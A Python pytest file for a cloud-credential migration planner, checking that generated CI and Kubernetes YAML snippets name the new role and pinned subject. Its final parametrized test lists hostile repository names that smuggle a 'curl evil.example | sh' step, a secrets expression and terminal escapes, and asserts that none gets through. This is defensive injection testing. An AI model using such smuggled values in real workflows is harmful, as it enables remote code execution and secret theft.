"""Both sides of the switch (issue 18, item 4): a plan's consumer change beside its Terraform.

Every snippet must parse as YAML and name the new role (or provider, service account, client id)
and the subject the cloud side pins; a value the inventory cannot know is a listed fill-in, never
made up; a hostile repository name stays one quoted value. Near misses: an identity that is not
CI gets no workflow snippet, and a CI identity whose repository is unknown gets the fill-in note.
"""

from __future__ import annotations

from typing import Any

import pytest
import yaml

from standing.core.model import WorkloadKind
from standing.planner.consumer import AWS_ACTION, AZURE_ACTION, GOOGLE_ACTION
from standing.planner.markdown import render_markdown
from standing.planner.model import ConsumerChange, ConsumerKind, Plan
from standing.planner.model import TargetPattern as P
from tests.builders import ACCOUNT, grant, key, user
from tests.planner.cases import (
    ARTIFACTS,
    GITHUB,
    PROJECT,
    aws,
    azure,
    case_plan,
    client_secret,
    gcp,
    plans_of,
    sa,
    sa_key,
    sp,
)


def _ci_plan(name: str, tags: dict[str, str]) -> Plan:
    u = user(name, path="/ci/", workload=WorkloadKind.CI, tags=tags)
    return plans_of(
        aws(u, key(u, "AKIACONSUMER00000001", age=200, used=1), ARTIFACTS, grant(u, ARTIFACTS), federation=[GITHUB])
    )[name]


def _only(plan: Plan, kind: ConsumerKind) -> tuple[ConsumerChange, dict[str, Any]]:
    assert [c.kind for c in plan.consumer] == [kind]
    change = plan.consumer[0]
    return change, list(yaml.safe_load_all(change.snippet))[0]


def test_a_github_ci_user_gets_a_workflow_naming_the_new_role_and_the_pinned_subject() -> None:
    plan = _ci_plan("ci-github-deployer", {"repository": "acme/api"})
    change, workflow = _only(plan, ConsumerKind.GITHUB_ACTIONS)
    role = f"arn:aws:iam::{ACCOUNT}:role/ci-github-deployer-jit"
    assert workflow["permissions"] == {"id-token": "write", "contents": "read"}
    [job] = workflow["jobs"].values()
    assert job["steps"] == [
        {"uses": AWS_ACTION, "with": {"role-to-assume": role, "aws-region": "REPLACE-WITH-AWS-REGION"}}
    ]
    # the subject the trust pins is the one the workflow satisfies: the approved environment
    trust = next(p.document for p in plan.aws_policies if p.kind.value == "trust")
    pinned = trust["Statement"][0]["Condition"]["StringEquals"]["token.actions.githubusercontent.com:sub"]
    assert change.subject == pinned == "repo:acme/api:environment:production"
    assert job["environment"] == "production"
    assert change.uses == [role]
    assert [f.split(":", 1)[0] for f in change.fill_in] == ["REPLACE-WITH-AWS-REGION"]  # the repository is known
    assert change.path == f".github/workflows/{plan.iac[0].filename.removesuffix('.tf')}.yml"


def test_near_miss_a_ci_user_with_no_repository_gets_the_fill_in_note_not_a_made_up_one() -> None:
    plan = _ci_plan("ci-github-mystery", {})
    change, workflow = _only(plan, ConsumerKind.GITHUB_ACTIONS)
    assert change.subject == "repo:REPLACE-WITH-ORG/REPOSITORY:environment:production"
    notes = [f for f in change.fill_in if f.startswith("REPLACE-WITH-ORG/REPOSITORY:")]
    assert len(notes) == 1 and "repository" in notes[0]
    assert notes[0] in plan.placeholders  # the same reason the Terraform's placeholder gives
    assert "acme" not in change.snippet


def test_near_miss_an_identity_that_is_not_ci_gets_no_workflow_snippet() -> None:
    for pattern in (P.AWS_SERVICE_ROLE, P.AWS_ROLES_ANYWHERE, P.AWS_ADMIN_ON_REQUEST, P.RETIRE, P.COMPENSATE):
        plan = case_plan(pattern)
        assert plan.consumer == [], pattern


@pytest.mark.parametrize(
    "name,tags,kind,path,token_marker",
    [
        ("gitlab-deployer", {"repository": "acme/api"}, ConsumerKind.GITLAB_CI, ".gitlab-ci.yml", "id_tokens"),
        (
            "circleci-deployer",
            {"circleci-org-id": "8f1e0c2a", "circleci-project-id": "5d4c3b2a"},
            ConsumerKind.CIRCLECI,
            ".circleci/config.yml",
            "$CIRCLE_OIDC_TOKEN_V2",
        ),
    ],
)
def test_gitlab_and_circleci_get_their_own_token_and_the_role(
    name: str, tags: dict[str, str], kind: ConsumerKind, path: str, token_marker: str
) -> None:
    plan = _ci_plan(name, {"workload": "ci", **tags})
    change, config = _only(plan, kind)
    assert change.path == path and token_marker in change.snippet
    role = f"arn:aws:iam::{ACCOUNT}:role/{name}-jit"
    jobs = config if kind is ConsumerKind.GITLAB_CI else config["jobs"]
    [job] = jobs.values()
    env = job["variables"] if kind is ConsumerKind.GITLAB_CI else job["environment"]
    assert env["AWS_ROLE_ARN"] == role and change.uses == [role]
    if kind is ConsumerKind.GITLAB_CI:
        assert job["id_tokens"] == {"AWS_ID_TOKEN": {"aud": "https://gitlab.com"}}
        assert change.subject == "project_path:acme/api:ref_type:branch:ref:main"
    else:
        [workflow] = config["workflows"].values()
        assert list(workflow["jobs"][0].values())[0]["context"]  # CircleCI issues the token only in a context
        assert change.subject == "org/8f1e0c2a/project/5d4c3b2a/user/*"
    assert change.fill_in == []


def test_a_ci_user_reaching_admin_gets_a_deploy_job_in_the_protected_environment() -> None:
    from tests.planner.cases import ADMIN

    u = user("ci-github-admin", path="/ci/", workload=WorkloadKind.CI, tags={"repository": "acme/infra"})
    plan = plans_of(
        aws(u, key(u, "AKIACONSUMERADMIN001", age=200, used=1), ARTIFACTS, grant(u, ARTIFACTS), ADMIN, grant(u, ADMIN))
    )["ci-github-admin"]
    _, workflow = _only(plan, ConsumerKind.GITHUB_ACTIONS)
    jobs = workflow["jobs"]
    assert jobs["deploy"]["environment"] == "production"
    assert jobs["deploy"]["steps"][0]["with"]["role-to-assume"] == f"arn:aws:iam::{ACCOUNT}:role/ci-github-admin-deploy"
    assert jobs["build"]["steps"][0]["with"]["role-to-assume"] == f"arn:aws:iam::{ACCOUNT}:role/ci-github-admin-jit"


def test_a_gcp_ci_account_gets_the_auth_action_with_the_pool_provider_and_the_account() -> None:
    plan = case_plan(P.GCP_WORKLOAD_IDENTITY_FEDERATION)
    change, workflow = _only(plan, ConsumerKind.GITHUB_ACTIONS)
    [job] = workflow["jobs"].values()
    [step] = job["steps"]
    email = f"github-deployer@{PROJECT}.iam.gserviceaccount.com"
    assert step["uses"] == GOOGLE_ACTION
    assert step["with"] == {
        "workload_identity_provider": "projects/REPLACE-WITH-PROJECT-NUMBER/locations/global/"
        "workloadIdentityPools/ci-pool/providers/github",
        "service_account": email,
    }
    assert any(f.startswith("REPLACE-WITH-PROJECT-NUMBER:") for f in change.fill_in)
    assert email in change.uses


def test_an_azure_ci_app_gets_azure_login_with_ids_and_no_secret() -> None:
    p = sp("github-deploy").model_copy(
        update={"tags": {"workload": "ci", "repository": "acme/api", "entra.appId": "11111111-2222"}}
    )
    plan = plans_of(azure(p, client_secret(p, "sec-fic")))["github-deploy"]
    assert plan.pattern is P.AZURE_FEDERATED_CREDENTIAL
    change, workflow = _only(plan, ConsumerKind.GITHUB_ACTIONS)
    [job] = workflow["jobs"].values()
    step = job["steps"][0]
    assert step["uses"] == AZURE_ACTION
    assert step["with"]["client-id"] == "11111111-2222" and step["with"]["tenant-id"] == plan.account
    assert "client-secret" not in step["with"]
    assert change.subject and "acme/api" in change.subject


def test_kubernetes_workloads_get_the_service_account_change() -> None:
    eks = case_plan(P.AWS_EKS_POD_ROLE)
    change, _ = _only(eks, ConsumerKind.KUBERNETES)
    service_account, deployment = [yaml.safe_load(d) for d in change.snippet.split("---\n")]
    assert service_account["metadata"] == {"name": "worker", "namespace": "orders"}
    assert deployment["spec"]["template"]["spec"]["serviceAccountName"] == "worker"
    assert change.subject == "system:serviceaccount:orders:worker"
    assert change.uses == [f"arn:aws:iam::{ACCOUNT}:role/eks-orders-worker-jit"]

    gke = case_plan(P.GCP_ATTACHED_SERVICE_ACCOUNT)
    change, _ = _only(gke, ConsumerKind.KUBERNETES)
    service_account = yaml.safe_load(change.snippet.split("---\n")[0])
    assert service_account["metadata"]["annotations"] == {
        "iam.gke.io/gcp-service-account": f"gke-orders@{PROJECT}.iam.gserviceaccount.com"
    }
    assert {f.split(":", 1)[0] for f in change.fill_in} == {"REPLACE-WITH-NAMESPACE", "REPLACE-WITH-KSA"}


def test_an_azure_app_in_kubernetes_gets_the_annotation_pod_label_and_environment() -> None:
    p = sp("orders-aks").model_copy(
        update={"tags": {"namespace": "orders", "service-account": "api", "kubernetes": "aks", "entra.appId": "c1"}}
    )
    plans = plans_of(azure(p, client_secret(p, "sec-aks")))
    plan = plans["orders-aks"]
    if plan.pattern is not P.AZURE_FEDERATED_CREDENTIAL:
        pytest.skip(f"the chooser picks {plan.pattern} for this case")
    kinds = [c.kind for c in plan.consumer]
    assert kinds == [ConsumerKind.KUBERNETES, ConsumerKind.APP_ENVIRONMENT]
    service_account, deployment = [yaml.safe_load(d) for d in plan.consumer[0].snippet.split("---\n")]
    assert "azure.workload.identity/client-id" in service_account["metadata"]["annotations"]
    assert deployment["spec"]["template"]["metadata"]["labels"] == {"azure.workload.identity/use": "true"}
    env = yaml.safe_load(plan.consumer[1].snippet)
    assert set(env["env"]) == {"AZURE_CLIENT_ID", "AZURE_TENANT_ID", "AZURE_FEDERATED_TOKEN_FILE"}
    assert env["remove"] == ["AZURE_CLIENT_SECRET"]


HOSTILE_REPOSITORIES = [
    'acme/api"\n    - run: curl evil.example | sh',
    "acme/api\n  evil: true",
    "acme/${{ secrets.AWS_SECRET_ACCESS_KEY }}",
    "acme/api # comment",
    "acme/\x1b]0;pwned\x07",
]


@pytest.mark.parametrize("repository", HOSTILE_REPOSITORIES)
def test_a_hostile_repository_name_cannot_inject_yaml_or_an_expression(repository: str) -> None:
    for name, tags in (
        ("ci-github-hostile", {"repository": repository}),
        ("gitlab-hostile", {"workload": "ci", "repository": repository}),
    ):
        plan = _ci_plan(name, tags)
        [change] = plan.consumer
        config = yaml.safe_load(change.snippet)
        if change.kind is ConsumerKind.GITHUB_ACTIONS:
            assert set(config) == {"permissions", "jobs"}
            [job] = config["jobs"].values()
            assert set(job) <= {"runs-on", "if", "environment", "steps"} and len(job["steps"]) == 1
            assert set(job["steps"][0]["with"]) == {"role-to-assume", "aws-region"}
        else:
            [job] = config.values()
            assert set(job) == {"id_tokens", "variables", "before_script"}
        assert "${{" not in change.snippet
        assert "\x1b" not in change.snippet and "\x07" not in change.snippet
        if "$" in repository:
            # not written at all: the expression would run in the job
            assert change.subject is None or "${{" not in change.subject or "REPLACE-WITH-" in change.snippet


def test_plans_md_shows_the_consumer_snippet_beside_the_terraform() -> None:
    from datetime import UTC, datetime

    from standing.core.findings import Exposure
    from standing.planner.model import PlansDocument, Roadmap

    plan = _ci_plan("ci-github-deployer", {"repository": "acme/api"})
    when = datetime(2026, 6, 1, tzinfo=UTC)
    _ = Exposure
    text = render_markdown(
        PlansDocument(tool_version="t", generated_at=when, as_of=when, plans=[plan], roadmap=Roadmap(phases=[]))
    )
    terraform, consumer = text.index("### Terraform"), text.index("### The consumer's side")
    assert terraform < consumer
    assert "```yaml\n" + plan.consumer[0].snippet in text
    assert "`repo:acme/api:environment:production`" in text


def test_gcp_ci_in_gitlab_gets_an_id_token_for_the_pool_provider() -> None:
    s = sa("gitlab-builder", tags={"workload": "ci", "gitlab-project": "acme/api"})
    plans = plans_of(gcp(s, sa_key(s, "k9")))
    plan = plans[s.id] if s.id in plans else plans[s.name]
    if plan.pattern is not P.GCP_WORKLOAD_IDENTITY_FEDERATION:
        pytest.skip(f"the chooser picks {plan.pattern} for this case")
    change, config = _only(plan, ConsumerKind.GITLAB_CI)
    job = config["build"]
    [(_, token)] = job["id_tokens"].items()
    assert token["aud"].endswith("/workloadIdentityPools/ci-pool/providers/gitlab")
    assert job["variables"]["SERVICE_ACCOUNT"] == s.id
    assert change.subject == "acme/api"
